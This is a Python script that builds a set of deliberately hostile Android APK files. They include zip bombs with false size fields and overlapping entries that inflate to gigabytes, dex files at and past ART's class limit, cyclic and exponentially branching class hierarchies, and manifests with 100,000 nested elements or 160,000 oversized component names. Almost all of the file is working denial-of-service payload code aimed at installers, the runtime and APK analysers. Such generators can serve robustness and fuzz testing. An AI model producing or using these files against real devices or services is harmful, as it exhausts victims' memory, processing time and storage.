#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Makes APKs that want all of a machine: its memory, its time, its disk.

usage: make_hostile.py GOOD.apk FOLDER

bomb-lie.apk        a manifest that says it has 10 bytes and unpacks to 1.5 GB
bomb-dexes.apk      30 dex files, sound in front, each unpacking to 120 MB of which most is nothing
bomb-entries.apk    300,000 entries beside the manifest
bomb-overlap.apk    50,000 entries that share the same compressed megabyte, each unpacking to 1 GB
classes-65535.apk   a dex file with 65,535 classes, the most that ART takes: an honest one
classes-65536.apk   a dex file with one more
chain.apk           65,532 classes, each the superclass of the next, and as many calls, the first on the last of them
circle.apk          40,000 classes, each the superclass of the next, the last of the first
lattice.apk         interfaces in 60 levels of two, each extending both below
overrides.apk       20,000 classes that override one method and call it 20 times each, reached from the application's start
names.apk           a dex container of 1,024 parts that share 65,536 types that share one name of 65,535 bytes
components.apk      160,000 components with names of 4,000 bytes, all of them one string
depth.apk           a manifest of 100,000 elements inside each other
"""
import hashlib
import os
import struct
import sys
import zipfile
import zlib

NO_INDEX = 0xFFFFFFFF
NO_SUPER = NO_INDEX
STATIC = 0x8


# ---- zip --------------------------------------------------------------------------------------------------------------


class Zip:
    """An archive whose every number can be a lie."""

    def __init__(self):
        self.body, self.directory, self.count = bytearray(), bytearray(), 0

    def store(self, packed, method=8):
        """Puts bytes behind a local header of no name and gives where that header is."""
        at = len(self.body)
        self.body += struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, method, 0, 0x5021, 0, len(packed), 0, 0, 0) + packed
        return at

    def entry(self, name, data=None, at=None, packed_size=0, size=None, crc=0):
        name = name.encode()
        if data is not None:
            packer = zlib.compressobj(6, zlib.DEFLATED, -15)
            packed = packer.compress(data) + packer.flush()
            at, packed_size, size, crc = len(self.body), len(packed), len(data), zlib.crc32(data)
            self.body += struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0x5021, crc, packed_size, size, len(name), 0) + name + packed
        self.directory += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0x5021, crc, packed_size, size, len(name), 0, 0,
                                      0, 0, 0, at) + name
        self.count += 1

    def named(self, name, packed, size, crc):
        """An entry with a local header of its own, of packed bytes that say this size."""
        at = len(self.body)
        self.body += struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0x5021, crc, len(packed), size, len(name), 0)
        self.body += name.encode() + packed
        self.entry(name, at=at, packed_size=len(packed), size=size, crc=crc)

    def write(self, path):
        count = min(self.count, 0xFFFF)
        tail = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(self.directory), len(self.body), 0)
        with open(path, "wb") as file:
            file.write(self.body + self.directory + tail)


def zeros_behind(front, size):
    """Raw deflate of `front` and zeros up to `size` bytes, in whole megabytes, and the CRC of that."""
    block = bytes(1 << 20)
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = packer.compress(front + bytes(-len(front) % len(block))) + packer.flush(zlib.Z_FULL_FLUSH)
    one = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # knows nothing of what is before it: may be repeated
    crc = zlib.crc32(front + bytes(-len(front) % len(block)))
    blocks = (size - len(front)) // len(block)
    for _ in range(blocks):
        crc = zlib.crc32(block, crc)
    return packed + one * blocks + packer.flush(), crc


# ---- dex --------------------------------------------------------------------------------------------------------------


def uleb(value):
    out = bytearray()
    while True:
        out.append(value & 0x7F | (0x80 if value > 0x7F else 0))
        value >>= 7
        if not value:
            return bytes(out)


def header(magic, file_size, header_size, map_at, parts, data, container=None):
    """parts: {name: (count, offset)} of strings, types, protos, fields, methods, classes; data: (bytes, offset)"""
    fields = [file_size, header_size, 0x12345678, 0, 0, map_at]
    for name in ("strings", "types", "protos", "fields", "methods", "classes"):
        fields += parts.get(name, (0, 0))
    fields += data
    raw = magic + b"\0" * 24 + struct.pack("<%dI" % len(fields), *fields)
    return raw + struct.pack("<II", *container) if container else raw


def seal(dex):
    """With the digest and the checksum that a header has of what follows it."""
    dex = bytearray(dex)
    dex[12:32] = hashlib.sha1(dex[32:]).digest()
    struct.pack_into("<I", dex, 8, zlib.adler32(bytes(dex[12:])))
    return bytes(dex)


class Dex:
    """One dex file that ART would take. Strings, types and methods are sorted by the caller; protos are (shorty, return type), methods
    (type, proto, name); a class is (type, superclass, types of its interfaces, [(method, access flags, instructions)])."""

    def __init__(self, strings, types, protos=(), methods=(), classes=()):
        self.strings, self.types, self.protos, self.methods, self.classes = strings, types, protos, methods, classes

    def build(self):
        at, places, contents = 112, {}, [(0, 1, 0)]  # contents: type, count, offset of map_list
        for kind, name, count, size in ((1, "strings", len(self.strings), 4), (2, "types", len(self.types), 4),
                                        (3, "protos", len(self.protos), 12), (5, "methods", len(self.methods), 8),
                                        (6, "classes", len(self.classes), 32)):
            places[name] = (count, at if count else 0)
            if count:
                contents.append((kind, count, at))
            at += count * size
        data_at, data = at, bytearray()

        def put(kind, pieces, align=4):
            """All items of a kind, and where each is."""
            where = []
            for piece in pieces:
                data.extend(b"\0" * (-(data_at + len(data)) % align))
                where.append(data_at + len(data))
                data.extend(piece)
            if where:
                contents.append((kind, len(where), where[0]))
            return iter(where)

        lists = put(0x1001, [struct.pack("<I%dH" % len(c[2]), len(c[2]), *c[2]) for c in self.classes if c[2]])
        code = put(0x2001, [struct.pack("<HHHHII", 2, int(not flags & STATIC), 1, 0, 0, len(insns) // 2) + insns
                            for c in self.classes for _, flags, insns in c[3]])
        bodies = put(0x2000, [self.body(c[3], code) for c in self.classes if c[3]], 1)
        texts, ids, first = bytearray(), bytearray(), data_at + len(data)
        for text in self.strings:
            ids += struct.pack("<I", first + len(texts))
            texts += uleb(len(text)) + text + b"\0"
        contents.append((0x2002, len(self.strings), first))
        data += texts
        ids += b"".join(struct.pack("<I", i) for i in self.types)
        ids += b"".join(struct.pack("<III", *p, 0) for p in self.protos)
        ids += b"".join(struct.pack("<HHI", *m) for m in self.methods)
        used = {kind for c in self.classes for kind in c[2]}  # as interfaces
        for kind, parent, interfaces, methods in self.classes:
            ids += struct.pack("<8I", kind, 0x601 if kind in used else 1, parent, next(lists) if interfaces else 0, NO_INDEX, 0,
                               next(bodies) if methods else 0, 0)
        map_at = next(put(0x1000, [b""]))
        data += struct.pack("<I", len(contents)) + b"".join(struct.pack("<HHII", kind, 0, count, at) for kind, count, at in contents)
        head = header(b"dex\n035\0", data_at + len(data), 112, map_at, places, (len(data), data_at))
        return seal(head + ids + data)

    @staticmethod
    def body(methods, code):
        """class_data_item: static ones are direct methods, the others virtual."""
        out = uleb(0) * 2
        groups = [[m for m in methods if m[1] & STATIC], [m for m in methods if not m[1] & STATIC]]
        out += uleb(len(groups[0])) + uleb(len(groups[1]))
        for group in groups:
            last = 0
            for method, flags, _ in group:
                out += uleb(method - last) + uleb(flags) + uleb(next(code))
                last = method
        return out


def invoke(method, register=0, kind=0x6E):
    """invoke-virtual {vN}, or another of its kind with one argument"""
    return struct.pack("<HHH", 0x1000 | kind, method, register)


NULL, RETURN = struct.pack("<H", 0x0012), struct.pack("<H", 0x000E)  # const/4 v0, 0 and return-void


def sorted_dex(types, names, protos, methods, classes):
    """A Dex of words: protos are (shorty, return type), methods (type, proto, name), all sorted here; classes as in Dex, their
    types as words and their code a function of the numbers of methods."""
    types = sorted(types)
    strings = sorted({*types, *names, *(shorty for shorty, _ in protos)})
    string, kind = ({text: i for i, text in enumerate(words)} for words in (strings, types))
    methods = sorted(methods, key=lambda m: (kind[m[0]], string[m[2]], m[1]))
    number = {(m[0], m[2]): i for i, m in enumerate(methods)}
    return Dex(strings, [string[t] for t in types], [(string[s], kind[r]) for s, r in protos],
               [(kind[t], p, string[n]) for t, p, n in methods],
               [(kind[t], NO_SUPER if parent is None else kind[parent], [kind[i] for i in interfaces],
                 sorted((number[t, name], flags, code(number)) for name, flags, code in own))
                for t, parent, interfaces, own in classes]).build()


def dex_of_classes(n):
    names = [b"Lorg/crowd/C%05x;" % i for i in range(n)]
    return sorted_dex(names, [], [], [], [(name, names[0] if name != names[0] else None, (), ()) for name in names])


SERVICE, RESOLVER, ASK = b"Landroid/app/Service;", b"Landroid/content/ContentResolver;", b"getContentResolver"
PROTOS = [(b"L", RESOLVER), (b"V", b"V")]


def dex_of_a_chain(n):
    """Each class extends the one before, the first android.app.Service; one method of the last calls getContentResolver() on every
    class, the last first: whoever looks for what is meant walks up."""
    chain = [b"Lorg/chain/C%05x;" % i for i in range(n)]
    methods = [(name, 0, ASK) for name in chain[:-1]] + [(chain[-1], 1, b"run")]
    classes = [(name, chain[i - 1] if i else SERVICE, (), ()) for i, name in enumerate(chain[:-1])]
    classes.append((chain[-1], chain[-2], (), [
        (b"run", STATIC, lambda number: NULL + b"".join(invoke(number[name, ASK]) for name in reversed(chain[:-1])) + RETURN)]))
    return sorted_dex([SERVICE, RESOLVER, b"V", *chain], [ASK, b"run"], PROTOS, methods, classes)


def dex_of_a_circle(n):
    """As the chain, but the first extends the last."""
    circle = [b"Lorg/circle/C%05x;" % i for i in range(n)]
    methods = [(name, 0, ASK) for name in circle] + [(circle[-1], 1, b"run")]
    classes = [(name, circle[i - 1], (), ()) for i, name in enumerate(circle[:-1])]
    classes.append((circle[-1], circle[-2], (), [
        (b"run", STATIC, lambda number: NULL + b"".join(invoke(number[name, ASK]) for name in circle) + RETURN)]))
    return sorted_dex([RESOLVER, b"V", *circle], [ASK, b"run"], PROTOS, methods, classes)


def dex_of_a_lattice(n):
    """Two interfaces a level, each extending both of the level below: 2^n ways lead down from the class on top."""
    level = [[b"Lorg/lattice/%s%03x;" % (side, i) for side in (b"A", b"B")] for i in range(n)]
    top, root = b"Lorg/lattice/Top;", b"Ljava/lang/Object;"
    classes = [(name, root, level[i - 1] if i else (), ()) for i, pair in enumerate(level) for name in pair]
    classes.append((top, root, level[-1], [(b"run", STATIC, lambda number: NULL + invoke(number[top, ASK]) * 1000 + RETURN)]))
    return sorted_dex([root, RESOLVER, b"V", top, *(name for pair in level for name in pair)], [ASK, b"run"], PROTOS,
                      [(top, 0, ASK), (top, 1, b"run")], classes)


def dex_of_a_crowd_of_overrides(n, calls):
    """n classes override one method, and each of the n calls it: n * n ways the calls may go, from the application's start on."""
    base, start, go = b"Lorg/fan/Base;", b"Lorg/fan/App;", b"go"
    fan = [b"Lorg/fan/C%05x;" % i for i in range(n)]

    def code(number):
        return NULL + invoke(number[base, go]) * calls + RETURN

    methods = [(name, 1, go) for name in (base, *fan)] + [(start, 1, b"onCreate")]
    classes = [(base, b"Ljava/lang/Object;", (), [(go, 1, code)]), (start, b"Landroid/app/Application;", (), [(b"onCreate", 1, code)])]
    classes += [(name, base, (), [(go, 1, code)]) for name in fan]
    return sorted_dex([b"Ljava/lang/Object;", b"Landroid/app/Application;", RESOLVER, b"V", base, start, *fan], [go, b"onCreate"], PROTOS,
                      methods, classes)


def dex_of_names(parts, types):
    """A container (041): every header speaks of the same tables, every type and class of the same long name."""
    name = b"L" + b"a" * 65533 + b";"
    ids_at = parts * 120
    strings_at, types_at, classes_at = ids_at, ids_at + 4, ids_at + 4 + 4 * types
    data_at = classes_at + 32 * types
    data = uleb(len(name)) + name + b"\0"
    data += b"\0" * (-len(data) % 4)
    total = data_at + len(data)
    out = bytearray()
    for i in range(parts):
        here = i * 120
        size = 120 if i + 1 < parts else total - here
        tables = {"strings": (1, strings_at), "types": (types, types_at), "classes": (types, classes_at)}
        out += header(b"dex\n041\0", size, 120, 0, tables, (0, 0), (total, here))
    out += struct.pack("<I", data_at) + struct.pack("<I", 0) * types
    out += b"".join(struct.pack("<8I", i, 1, NO_SUPER, 0, NO_INDEX, 0, 0, 0) for i in range(types))
    return bytes(out + data)


# ---- binary XML ---------------------------------------------------------------------------------------------------------


ANDROID = "http://schemas.android.com/apk/res/android"


class Axml:
    def __init__(self, strings):
        self.strings, self.nodes = ["name", *strings, ANDROID], bytearray()

    def open(self, tag, *attributes):
        """attributes: (name, text), the name "name" being android's"""
        place = self.strings.index
        rows = b""
        for name, text in attributes:
            space = place(ANDROID) if name == "name" else NO_INDEX
            rows += struct.pack("<IIIHBBI", space, place(name), place(text), 8, 0, 3, place(text))
        self.nodes += struct.pack("<HHIIIIIHHHHHH", 0x102, 16, 36 + len(rows), 1, NO_INDEX, NO_INDEX, place(tag), 20, 20,
                                  len(attributes), 0, 0, 0) + rows

    def close(self, tag):
        self.nodes += struct.pack("<HHIIIII", 0x103, 16, 24, 1, NO_INDEX, NO_INDEX, self.strings.index(tag))

    def build(self):
        pool, offsets = bytearray(), []
        for text in self.strings:
            offsets.append(len(pool))
            raw = text.encode("utf-16-le")
            pool += struct.pack("<H", len(text)) + raw + b"\0\0"
        pool += b"\0" * (-len(pool) % 4)
        start = 28 + 4 * len(offsets)
        strings = struct.pack("<HHIIIIII", 1, 28, start + len(pool), len(offsets), 0, 0, start, 0)
        strings += b"".join(struct.pack("<I", at) for at in offsets) + pool
        resources = struct.pack("<HHII", 0x180, 8, 12, 0x01010003)
        body = strings + resources + bytes(self.nodes)
        return struct.pack("<HHI", 3, 8, 8 + len(body)) + body


def manifest_of_components(n):
    long_name = "org.storm." + "a" * 3990
    axml = Axml(["manifest", "package", "org.storm", "application", "activity", long_name])
    axml.open("manifest", ("package", "org.storm"))
    axml.open("application")
    before = len(axml.nodes)
    axml.open("activity", ("name", long_name))
    axml.close("activity")
    axml.nodes += bytes(axml.nodes[before:]) * (n - 1)
    axml.close("application")
    axml.close("manifest")
    return axml.build()


def manifest_of_application(package, name):
    axml = Axml(["manifest", "package", package, "application", name])
    axml.open("manifest", ("package", package))
    axml.open("application", ("name", name))
    axml.close("application")
    axml.close("manifest")
    return axml.build()


def manifest_of_depth(n):
    axml = Axml(["manifest", "package", "org.deep", "application", "x"])
    axml.open("manifest", ("package", "org.deep"))
    axml.open("application")
    before = len(axml.nodes)
    axml.open("x")
    axml.nodes += bytes(axml.nodes[before:]) * (n - 1)
    before = len(axml.nodes)
    axml.close("x")
    axml.nodes += bytes(axml.nodes[before:]) * (n - 1)
    axml.close("application")
    axml.close("manifest")
    return axml.build()


# ---- the files ------------------------------------------------------------------------------------------------------------


def plain(path, entries):
    archive = Zip()
    for name, data in entries.items():
        archive.entry(name, data)
    archive.write(path)


def main():
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    with zipfile.ZipFile(sys.argv[1]) as good:
        manifest, dex = good.read("AndroidManifest.xml"), good.read("classes.dex")
    folder = sys.argv[2]
    os.makedirs(folder, exist_ok=True)

    def place(name):
        return os.path.join(folder, name)

    lie = Zip()
    packed, crc = zeros_behind(b"", 1536 << 20)
    lie.named("AndroidManifest.xml", packed, 10, crc)
    lie.entry("classes.dex", dex)
    lie.write(place("bomb-lie.apk"))

    dexes = Zip()
    dexes.entry("AndroidManifest.xml", manifest)
    packed, crc = zeros_behind(dex, 120 << 20)
    for i in range(30):
        dexes.named("classes%s.dex" % (i + 1 if i else ""), packed, 120 << 20, crc)
    dexes.write(place("bomb-dexes.apk"))

    entries = Zip()
    entries.entry("AndroidManifest.xml", manifest)
    entries.entry("classes.dex", dex)
    nothing = entries.store(b"\3\0")
    for i in range(300_000):
        entries.entry("assets/%06d" % i, at=nothing, packed_size=2, size=0)
    entries.write(place("bomb-entries.apk"))

    overlap = Zip()
    overlap.entry("AndroidManifest.xml", manifest)
    overlap.entry("classes.dex", dex)
    packed, crc = zeros_behind(b"", 1 << 30)
    shared = overlap.store(packed)
    for i in range(50_000):
        overlap.entry("lib/arm64-v8a/lib%05d.so" % i, at=shared, packed_size=len(packed), size=1 << 30, crc=crc)
    overlap.write(place("bomb-overlap.apk"))

    for n in (65535, 65536):
        plain(place("classes-%d.apk" % n), {"AndroidManifest.xml": manifest, "classes.dex": dex_of_classes(n)})
    plain(place("chain.apk"), {"AndroidManifest.xml": manifest, "classes.dex": dex_of_a_chain(65532)})
    plain(place("circle.apk"), {"AndroidManifest.xml": manifest, "classes.dex": dex_of_a_circle(40_000)})
    plain(place("lattice.apk"), {"AndroidManifest.xml": manifest, "classes.dex": dex_of_a_lattice(60)})
    plain(place("overrides.apk"), {"AndroidManifest.xml": manifest_of_application("org.fan", "org.fan.App"),
                                   "classes.dex": dex_of_a_crowd_of_overrides(20_000, 20)})
    plain(place("names.apk"), {"AndroidManifest.xml": manifest, "classes.dex": dex_of_names(1024, 65536)})
    plain(place("components.apk"), {"AndroidManifest.xml": manifest_of_components(160_000), "classes.dex": dex})
    plain(place("depth.apk"), {"AndroidManifest.xml": manifest_of_depth(100_000), "classes.dex": dex})


if __name__ == "__main__":
    main()
